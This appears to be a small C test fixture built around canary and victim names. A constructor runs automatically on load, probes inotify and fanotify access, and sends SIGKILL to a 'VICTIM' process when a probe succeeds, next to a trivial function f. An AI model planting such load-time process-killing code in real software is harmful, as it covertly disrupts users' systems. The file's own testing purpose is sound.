#include "canary.h"
#include <sys/syscall.h>
#include <sys/inotify.h>
__attribute__((constructor)) static void early(void) {
  int w = inotify_init();
  if (w >= 0 && inotify_add_watch(w, CANARY, IN_ALL_EVENTS) >= 0) kill(VICTIM, SIGKILL);
  long all = syscall(SYS_fanotify_init, 0, 0);
  if (all >= 0) kill(VICTIM, SIGKILL);
  touch_canary();
}
int f(int x) { return x > 3; }
